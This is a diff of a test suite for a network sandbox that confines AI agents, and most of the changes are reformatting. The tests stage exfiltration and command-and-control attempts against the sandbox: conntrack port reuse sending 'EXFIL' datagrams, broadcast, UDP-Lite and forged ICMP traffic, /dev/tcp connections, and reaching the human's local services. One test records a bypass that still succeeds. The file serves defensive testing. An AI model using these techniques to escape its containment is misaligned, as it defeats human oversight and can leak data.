@@ -75,9 +75,22 @@ describe('review: attacks on the two-way network policies and the domains proxy'
   let site: string;
   let selfSite: string;
 
-  const auArgv = (args: string[]): string[] => ['runuser', '-u', human.name, '--', 'env', '-i', ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`), process.execPath, join(packageForHumans(), 'bin', 'au'), ...args];
-  const agentPy = (code: string): { status: number; stdout: string; stderr: string } => human.au(['run', '-a', agent, '--', 'python3', '-c', code]);
-  const bgAgent = (code: string, name = agent): ReturnType<typeof background> => background(auArgv(['run', '-a', name, '--', 'python3', '-u', '-c', code]), human.home);
+  const auArgv = (args: string[]): string[] => [
+    'runuser',
+    '-u',
+    human.name,
+    '--',
+    'env',
+    '-i',
+    ...Object.entries(human.env()).map(([k, v]) => `${k}=${v}`),
+    process.execPath,
+    join(packageForHumans(), 'bin', 'au'),
+    ...args,
+  ];
+  const agentPy = (code: string): { status: number; stdout: string; stderr: string } =>
+    human.au(['run', '-a', agent, '--', 'python3', '-c', code]);
+  const bgAgent = (code: string, name = agent): ReturnType<typeof background> =>
+    background(auArgv(['run', '-a', name, '--', 'python3', '-u', '-c', code]), human.home);
   const setPolicy = (...args: string[]): void => {
     const r = human.au(['net', 'set', '-a', agent, ...args]);
     assert.equal(r.status, 0, r.stderr);
@@ -111,8 +124,25 @@ describe('review: attacks on the two-way network policies and the domains proxy'
     // The outside host: a UDP echo server that writes down every payload, and a TCP line logger.
     writeFileSync(UDP_LOG, '');
     writeFileSync(TCP_LOG, '');
-    for (const port of [P(1), 53]) serve(['ip', 'netns', 'exec', NS, 'python3', '-c', `import socket\nlog = open('${UDP_LOG}', 'a', buffering=1)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('${OUTSIDE}', ${port}))\nwhile True:\n  d, a = u.recvfrom(200)\n  log.write('%s %d %s\\n' % (a[0], a[1], d.decode()))\n  u.sendto(b'echo ' + d, a)\n`]);
-    serve(['ip', 'netns', 'exec', NS, 'python3', '-c', `import socket, threading\nlog = open('${TCP_LOG}', 'a', buffering=1)\nt = socket.socket()\nt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nt.bind(('${OUTSIDE}', ${P(2)}))\nt.listen(8)\ndef one(c):\n  f = c.makefile('rb')\n  for line in f: log.write(line.decode())\nwhile True:\n  c, a = t.accept()\n  threading.Thread(target=one, args=(c,), daemon=True).start()\n`]);
+    for (const port of [P(1), 53])
+      serve([
+        'ip',
+        'netns',
+        'exec',
+        NS,
+        'python3',
+        '-c',
+        `import socket\nlog = open('${UDP_LOG}', 'a', buffering=1)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('${OUTSIDE}', ${port}))\nwhile True:\n  d, a = u.recvfrom(200)\n  log.write('%s %d %s\\n' % (a[0], a[1], d.decode()))\n  u.sendto(b'echo ' + d, a)\n`,
+      ]);
+    serve([
+      'ip',
+      'netns',
+      'exec',
+      NS,
+      'python3',
+      '-c',
+      `import socket, threading\nlog = open('${TCP_LOG}', 'a', buffering=1)\nt = socket.socket()\nt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nt.bind(('${OUTSIDE}', ${P(2)}))\nt.listen(8)\ndef one(c):\n  f = c.makefile('rb')\n  for line in f: log.write(line.decode())\nwhile True:\n  c, a = t.accept()\n  threading.Thread(target=one, args=(c,), daemon=True).start()\n`,
+    ]);
     // A service of the machine on one of its own non-loopback addresses (the host end of the veth), port 80.
     serve(['python3', '-m', 'http.server', '80', '--bind', HOST, '--directory', selfSite]);
     // The human's own services: TCP on every address, UDP on loopback (it writes down what it receives).
@@ -122,7 +152,14 @@ describe('review: attacks on the two-way network policies and the domains proxy'
       `${readFileSync('/etc/hosts', 'utf8')}${OUTSIDE} ${WORLD} ${OTHER} ${HOSTS_TAG}\n${HOST} ${SELF} ${HOSTS_TAG}\n127.0.0.1 ${LO} ${HOSTS_TAG}\n169.254.169.254 ${META} ${HOSTS_TAG}\n::1 ${V6LO} ${HOSTS_TAG}\n::ffff:127.0.0.1 ${MAPPED} ${HOSTS_TAG}\n`,
     );
     for (let i = 0; i < 100; i++) {
-      if (sh(['bash', '-c', `exec 3<>/dev/tcp/${OUTSIDE}/80 && exec 4<>/dev/tcp/${HOST}/80 && exec 5<>/dev/tcp/127.0.0.1/${P(3)} && exec 6<>/dev/tcp/${OUTSIDE}/${P(2)}`]).status === 0) break;
+      if (
+        sh([
+          'bash',
+          '-c',
+          `exec 3<>/dev/tcp/${OUTSIDE}/80 && exec 4<>/dev/tcp/${HOST}/80 && exec 5<>/dev/tcp/127.0.0.1/${P(3)} && exec 6<>/dev/tcp/${OUTSIDE}/${P(2)}`,
+        ]).status === 0
+      )
+        break;
       sh(['sleep', '0.05']);
     }
   });
@@ -135,7 +172,13 @@ describe('review: attacks on the two-way network policies and the domains proxy'
         // gone
       }
     }
-    writeFileSync('/etc/hosts', readFileSync('/etc/hosts', 'utf8').split('\n').filter((l) => !l.includes(HOSTS_TAG)).join('\n'));
+    writeFileSync(
+      '/etc/hosts',
+      readFileSync('/etc/hosts', 'utf8')
+        .split('\n')
+        .filter((l) => !l.includes(HOSTS_TAG))
+        .join('\n'),
+    );
     sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
     sh(['ip', 'netns', 'delete', NS]);
     sh(['ip', 'link', 'delete', VETH_HOST]);
@@ -217,41 +260,90 @@ done()`;
     assert.doesNotMatch(readFileSync(UDP_LOG, 'utf8'), /udp-out/);
   });
 
-  for (const [policy, peer] of [['deny', P(1)], ['domains', 53]] as const) test(`${policy}: egress to UDP ${peer} through a conntrack entry another process left (source port reused after the human's socket closed)`, () => {
-    if (policy === 'domains') setPolicy('domains', '--domain', WORLD);
-    else setPolicy('deny');
-    const port = P(4) + (peer === 53 ? 100 : 0);
-    // The human (unfiltered) exchanges one datagram with the outside host from a fixed port, then closes it.
-    const h = human.run(['python3', '-c', `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\nu.sendto(b'human-query', ('${OUTSIDE}', ${peer}))\nprint(u.recv(100).decode())\nu.close()`]);
-    assert.equal(h.stdout.trim(), 'echo human-query', h.stderr);
-    // The agent takes the port and speaks to the same peer (a DNS resolver of the host, in real life).
-    const r = agentPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL-${policy}', ('${OUTSIDE}', ${peer}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`);
-    assert.equal(r.status, 0, r.stderr);
-    assert.deepEqual({ egress: readFileSync(UDP_LOG, 'utf8').includes(`EXFIL-${policy}`), inboundReply: r.stdout.includes(`reply echo EXFIL-${policy}`) }, { egress: false, inboundReply: false }, r.stdout);
-  });
+  for (const [policy, peer] of [
+    ['deny', P(1)],
+    ['domains', 53],
+  ] as const)
+    test(`${policy}: egress to UDP ${peer} through a conntrack entry another process left (source port reused after the human's socket closed)`, () => {
+      if (policy === 'domains') setPolicy('domains', '--domain', WORLD);
+      else setPolicy('deny');
+      const port = P(4) + (peer === 53 ? 100 : 0);
+      // The human (unfiltered) exchanges one datagram with the outside host from a fixed port, then closes it.
+      const h = human.run([
+        'python3',
+        '-c',
+        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\nu.sendto(b'human-query', ('${OUTSIDE}', ${peer}))\nprint(u.recv(100).decode())\nu.close()`,
+      ]);
+      assert.equal(h.stdout.trim(), 'echo human-query', h.stderr);
+      // The agent takes the port and speaks to the same peer (a DNS resolver of the host, in real life).
+      const r = agentPy(
+        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL-${policy}', ('${OUTSIDE}', ${peer}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`,
+      );
+      assert.equal(r.status, 0, r.stderr);
+      assert.deepEqual(
+        {
+          egress: readFileSync(UDP_LOG, 'utf8').includes(`EXFIL-${policy}`),
+          inboundReply: r.stdout.includes(`reply echo EXFIL-${policy}`),
+        },
+        { egress: false, inboundReply: false },
+        r.stdout,
+      );
+    });
 
-  test('deny: a directed broadcast to a port the agent shares (SO_REUSEADDR) with another user\'s UDP socket', { todo: 'ATTACK SUCCEEDS: the socket lookup of `socket cgroupv2` finds one socket (the other user\'s); broadcast/multicast is then delivered to every socket on the port, the agent\'s included' }, async () => {
-    setPolicy('deny');
-    const port = P(5);
-    const decoy = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('decoy ready')\nwhile True: print('decoy got', u.recv(100).decode())`]);
-    await until(() => decoy.output().includes('decoy ready'));
-    const victim = bgAgent(`import socket\nu = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('::', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`);
-    await until(() => victim.output().includes('ready'));
-    nsPy(`import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nfor i in range(3):\n  u.sendto(b'c2-broadcast', ('${BCAST}', ${port})); time.sleep(0.2)`);
-    await until(() => /AGENT GOT|nothing/.test(victim.output()));
-    const out = await victim.stop();
-    assert.match(await decoy.stop(), /decoy got c2-broadcast/, 'the broadcast arrived on the machine');
-    assert.doesNotMatch(out, /AGENT GOT/, out);
-  });
+  test(
+    "deny: a directed broadcast to a port the agent shares (SO_REUSEADDR) with another user's UDP socket",
+    {
+      todo: "ATTACK SUCCEEDS: the socket lookup of `socket cgroupv2` finds one socket (the other user's); broadcast/multicast is then delivered to every socket on the port, the agent's included",
+    },
+    async () => {
+      setPolicy('deny');
+      const port = P(5);
+      const decoy = background([
+        'runuser',
+        '-u',
+        other.name,
+        '--',
+        'python3',
+        '-u',
+        '-c',
+        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('decoy ready')\nwhile True: print('decoy got', u.recv(100).decode())`,
+      ]);
+      await until(() => decoy.output().includes('decoy ready'));
+      const victim = bgAgent(
+        `import socket\nu = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('::', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
+      );
+      await until(() => victim.output().includes('ready'));
+      nsPy(
+        `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nfor i in range(3):\n  u.sendto(b'c2-broadcast', ('${BCAST}', ${port})); time.sleep(0.2)`,
+      );
+      await until(() => /AGENT GOT|nothing/.test(victim.output()));
+      const out = await victim.stop();
+      assert.match(await decoy.stop(), /decoy got c2-broadcast/, 'the broadcast arrived on the machine');
+      assert.doesNotMatch(out, /AGENT GOT/, out);
+    },
+  );
 
   test('deny: UDP-Lite datagrams from the outside host to the agent', async () => {
     setPolicy('deny');
     const port = P(6);
-    const witness = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nwhile True: print('witness got', u.recv(100).decode())`]);
+    const witness = background([
+      'runuser',
+      '-u',
+      other.name,
+      '--',
+      'python3',
+      '-u',
+      '-c',
+      `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nwhile True: print('witness got', u.recv(100).decode())`,
+    ]);
     await until(() => witness.output().includes('witness ready'));
-    const victim = bgAgent(`import socket, sys\ntry:\n  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`);
+    const victim = bgAgent(
+      `import socket, sys\ntry:\n  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
+    );
     await until(() => /ready|refused/.test(victim.output()));
-    nsPy(`import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nfor i in range(3):\n  u.sendto(b'c2-udplite', ('${HOST}', ${port})); u.sendto(b'c2-udplite', ('${HOST}', ${port + 1})); time.sleep(0.2)`);
+    nsPy(
+      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nfor i in range(3):\n  u.sendto(b'c2-udplite', ('${HOST}', ${port})); u.sendto(b'c2-udplite', ('${HOST}', ${port + 1})); time.sleep(0.2)`,
+    );
     await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
     const out = await victim.stop();
     assert.match(await witness.stop(), /witness got c2-udplite/, 'UDP-Lite reaches this machine');
@@ -265,11 +357,24 @@ done()`;
     must(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647']);
     try {
       const ident = P(7) % 65536;
-      const witness = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.bind(('0.0.0.0', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`]);
+      const witness = background([
+        'runuser',
+        '-u',
+        other.name,
+        '--',
+        'python3',
+        '-u',
+        '-c',
+        `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.bind(('0.0.0.0', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`,
+      ]);
       await until(() => witness.output().includes('witness ready'));
-      const victim = bgAgent(`import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('0.0.0.0', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`);
+      const victim = bgAgent(
+        `import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('0.0.0.0', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
+      );
       await until(() => /ready|refused/.test(victim.output()));
-      nsPy(`${PY_ICMP}for i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(icmp(0, 0, struct.pack('!HH', id, i), b'c2-echo'), ('${HOST}', 0))\n  time.sleep(0.2)`);
+      nsPy(
+        `${PY_ICMP}for i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(icmp(0, 0, struct.pack('!HH', id, i), b'c2-echo'), ('${HOST}', 0))\n  time.sleep(0.2)`,
+      );
       await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
       const out = await victim.stop();
       assert.match(await witness.stop(), /witness got c2-echo/, 'echo replies reach ping sockets on this machine');
@@ -286,11 +391,24 @@ done()`;
     must(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647']);
     try {
       const ident = P(13) % 65536;
-      const witness = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\ns.bind(('::', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`]);
+      const witness = background([
+        'runuser',
+        '-u',
+        other.name,
+        '--',
+        'python3',
+        '-u',
+        '-c',
+        `import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\ns.bind(('::', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`,
+      ]);
       await until(() => witness.output().includes('witness ready'));
-      const victim = bgAgent(`import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('::', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`);
+      const victim = bgAgent(
+        `import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('::', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
+      );
       await until(() => /ready|refused/.test(victim.output()));
-      nsPy(`import socket, struct, time\nraw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\nfor i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(struct.pack('!BBHHH', 129, 0, 0, id, i) + b'c2-echo6', ('${HOST6}', 0))\n  time.sleep(0.2)`);
+      nsPy(
+        `import socket, struct, time\nraw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\nfor i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(struct.pack('!BBHHH', 129, 0, 0, id, i) + b'c2-echo6', ('${HOST6}', 0))\n  time.sleep(0.2)`,
+      );
       await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
       const out = await victim.stop();
       assert.match(await witness.stop(), /witness got c2-echo6/, 'echo replies reach IPv6 ping sockets on this machine');
@@ -301,11 +419,15 @@ done()`;
     }
   });
 
-  test('allowlist of the LAN subnet: the machine\'s own address in it reaches the human\'s services bound to 0.0.0.0 (loopback ports by another door)', () => {
+  test("allowlist of the LAN subnet: the machine's own address in it reaches the human's services bound to 0.0.0.0 (loopback ports by another door)", () => {
     setPolicy('allowlist', '--allow', `${SUBNET}.0/30`);
-    const r = agentPy(`import socket\ntry:\n  s = socket.create_connection(('${HOST}', ${P(3)}), timeout=3); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('GOT', s.recv(200).decode().split()[1])\nexcept OSError as e: print('refused', type(e).__name__)`);
+    const r = agentPy(
+      `import socket\ntry:\n  s = socket.create_connection(('${HOST}', ${P(3)}), timeout=3); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('GOT', s.recv(200).decode().split()[1])\nexcept OSError as e: print('refused', type(e).__name__)`,
+    );
     assert.equal(r.status, 0, r.stderr);
-    const outside = agentPy(`import socket\ntry:\n  socket.create_connection(('${OUTSIDE}', 80), timeout=3); print('outside ok')\nexcept OSError as e: print('refused', type(e).__name__)`);
+    const outside = agentPy(
+      `import socket\ntry:\n  socket.create_connection(('${OUTSIDE}', 80), timeout=3); print('outside ok')\nexcept OSError as e: print('refused', type(e).__name__)`,
+    );
     assert.equal(outside.stdout.trim(), 'outside ok', 'the listed subnet itself is reachable (the policy works)');
     assert.doesNotMatch(r.stdout, /GOT/, r.stdout);
   });
@@ -313,17 +435,30 @@ done()`;
   test('deny: a forged ICMP port-unreachable quoting data, read from the error queue of an agent UDP socket (IP_RECVERR)', async () => {
     setPolicy('deny');
     const port = P(8);
-    const witness = background(['runuser', '-u', other.name, '--', 'python3', '-u', '-c', `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nfor i in range(50):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('witness got', d); break\n  except BlockingIOError: time.sleep(0.2)`]);
+    const witness = background([
+      'runuser',
+      '-u',
+      other.name,
+      '--',
+      'python3',
+      '-u',
+      '-c',
+      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nfor i in range(50):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('witness got', d); break\n  except BlockingIOError: time.sleep(0.2)`,
+    ]);
     await until(() => witness.output().includes('witness ready'));
-    const victim = bgAgent(`import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('ready')\nfor i in range(30):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('AGENT GOT', d); break\n  except BlockingIOError: time.sleep(0.2)\nelse: print('nothing')`);
+    const victim = bgAgent(
+      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('ready')\nfor i in range(30):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('AGENT GOT', d); break\n  except BlockingIOError: time.sleep(0.2)\nelse: print('nothing')`,
+    );
     await until(() => victim.output().includes('ready'));
-    nsPy(`${PY_ICMP}inner_udp = struct.pack('!HHHH', ${port}, 9999, 8 + 9, 0) + b'c2-icmperr'\ninner_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(inner_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nw_udp = struct.pack('!HHHH', ${port + 1}, 9999, 8 + 9, 0) + b'c2-icmperr'\nw_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(w_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nfor i in range(3):\n  raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', inner_ip + inner_udp), ('${HOST}', 0)); raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', w_ip + w_udp), ('${HOST}', 0)); time.sleep(0.2)`);
+    nsPy(
+      `${PY_ICMP}inner_udp = struct.pack('!HHHH', ${port}, 9999, 8 + 9, 0) + b'c2-icmperr'\ninner_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(inner_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nw_udp = struct.pack('!HHHH', ${port + 1}, 9999, 8 + 9, 0) + b'c2-icmperr'\nw_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(w_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nfor i in range(3):\n  raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', inner_ip + inner_udp), ('${HOST}', 0)); raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', w_ip + w_udp), ('${HOST}', 0)); time.sleep(0.2)`,
+    );
     // The errors were sent (nsPy has returned) and reached the witness's socket: the agent's socket,
     // still polling its error queue (6 s in all), gets 1.5 s more for its copy to show up.
     await until(() => witness.output().includes('witness got'));
     await until(() => /AGENT GOT|nothing/.test(victim.output()), 1500);
     const out = await victim.stop();
-    assert.match(await witness.stop(), /witness got .*c2-icmperr/, 'the forged error reaches another user\'s socket: it would be delivered');
+    assert.match(await witness.stop(), /witness got .*c2-icmperr/, "the forged error reaches another user's socket: it would be delivered");
     assert.match(out, /^ready$/m, out);
     assert.doesNotMatch(out, /AGENT GOT|Traceback/, `the agent's socket polled its error queue and found nothing: ${out}`);
   });
@@ -331,9 +466,15 @@ done()`;
   test('deny: the outside host reads bits from which ports the agent listens on (dropped SYN vs RST)', async () => {
     setPolicy('deny');
     const [one, zero] = [P(9), P(10)];
-    const victim = bgAgent(`import socket, time\nl = socket.socket()\nl.bind(('0.0.0.0', ${one}))\nl.listen(4)\nprint('ready')\ntime.sleep(20)`);
+    const victim = bgAgent(
+      `import socket, time\nl = socket.socket()\nl.bind(('0.0.0.0', ${one}))\nl.listen(4)\nprint('ready')\ntime.sleep(20)`,
+    );
     await until(() => victim.output().includes('ready'));
-    const probe = nsPy(`import socket\nfor p in (${one}, ${zero}):\n  try:\n    socket.create_connection(('${HOST}', p), timeout=2); print('open')\n  except OSError as e: print(type(e).__name__)`).trim().split('\n');
+    const probe = nsPy(
+      `import socket\nfor p in (${one}, ${zero}):\n  try:\n    socket.create_connection(('${HOST}', p), timeout=2); print('open')\n  except OSError as e: print(type(e).__name__)`,
+    )
+      .trim()
+      .split('\n');
     await victim.stop();
     assert.notEqual(probe[0], 'open', probe.join(','));
     assert.equal(probe[0], probe[1], `the listening port and the closed port look the same from outside: ${probe.join(', ')}`);
@@ -344,7 +485,9 @@ done()`;
     // Conntrack runs, as on any machine with a stateful firewall (ufw, firewalld, docker): this
     // table only counts. (With no conntrack user at all, the flow is picked up mid-stream as new
     // when the agent's table loads, and then refused.)
-    sh(['nft', '-f', '-'], { input: `table inet aur-${tag}-fw {\n chain out {\n  type filter hook output priority 10; policy accept;\n  ct state established counter\n }\n}\n` });
+    sh(['nft', '-f', '-'], {
+      input: `table inet aur-${tag}-fw {\n chain out {\n  type filter hook output priority 10; policy accept;\n  ct state established counter\n }\n}\n`,
+    });
     writeFileSync(TCP_LOG, '');
     const port = P(11);
     const victim = bgAgent(`import socket, time, threading
@@ -379,26 +522,48 @@ for i in range(100):
     assert.match(forced.stderr, /conntrack -D -f ipv4 -m 0x[0-9a-f]{8}\/0xffffff00/, forced.stderr);
     await sleep(500);
     const mark = readFileSync(TCP_LOG, 'utf8').length;
-    const inbound = nsPy(`import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): u.sendto(b'c2-udp', ('${HOST}', ${port}))\ntry:\n  s = socket.create_connection(('${HOST}', ${port}), timeout=2); s.sendall(b'c2-in'); print('connected')\nexcept OSError as e: print(type(e).__name__)`).trim();
+    const inbound = nsPy(
+      `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): u.sendto(b'c2-udp', ('${HOST}', ${port}))\ntry:\n  s = socket.create_connection(('${HOST}', ${port}), timeout=2); s.sendall(b'c2-in'); print('connected')\nexcept OSError as e: print(type(e).__name__)`,
+    ).trim();
     await sleep(1500);
     const out = await victim.stop();
     sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
     const later = readFileSync(TCP_LOG, 'utf8').slice(mark);
-    assert.deepEqual({ egressLines: later.split('\n').length - 1, inboundConnected: inbound === 'connected', inboundData: /INBOUND c2-in/.test(out), udpInbound: /UDP INBOUND c2-udp/.test(out) }, { egressLines: 0, inboundConnected: false, inboundData: false, udpInbound: false }, out);
+    assert.deepEqual(
+      {
+        egressLines: later.split('\n').length - 1,
+        inboundConnected: inbound === 'connected',
+        inboundData: /INBOUND c2-in/.test(out),
+        udpInbound: /UDP INBOUND c2-udp/.test(out),
+      },
+      { egressLines: 0, inboundConnected: false, inboundData: false, udpInbound: false },
+      out,
+    );
   });
 
   test('deny: an abstract unix socket of the human (a local service the policy cannot see)', async () => {
     setPolicy('deny');
     const name = `aur-${tag}-svc`;
-    const svc = background(['runuser', '-u', human.name, '--', 'python3', '-u', '-c', `import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0${name}')\ns.listen(4)\nprint('ready')\nwhile True:\n  c, a = s.accept(); c.sendall(b'human-secret'); c.close()`]);
+    const svc = background([
+      'runuser',
+      '-u',
+      human.name,
+      '--',
+      'python3',
+      '-u',
+      '-c',
+      `import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0${name}')\ns.listen(4)\nprint('ready')\nwhile True:\n  c, a = s.accept(); c.sendall(b'human-secret'); c.close()`,
+    ]);
     await until(() => svc.output().includes('ready'));
